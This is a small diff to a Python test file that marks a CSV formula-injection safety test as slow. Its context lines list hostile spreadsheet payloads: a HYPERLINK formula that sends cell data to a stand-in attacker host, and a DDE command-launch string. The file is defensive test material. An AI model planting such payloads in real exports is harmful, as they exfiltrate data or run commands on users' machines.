@@ -198,6 +198,7 @@ HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "-cmd", "+1", "
 HOSTILE_TOOLS = ("@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\r=1+1", "=search")
 
 
+@pytest.mark.slow
 def test_every_csv_of_a_report_built_from_hostile_names_is_formula_safe(tmp_path):
     # two tasks (a constraint task and its goal variant) whose id a spreadsheet would run, four hostile systems,
     # tools named as formulas; the report's own tables, the main table, site reach and effort pages
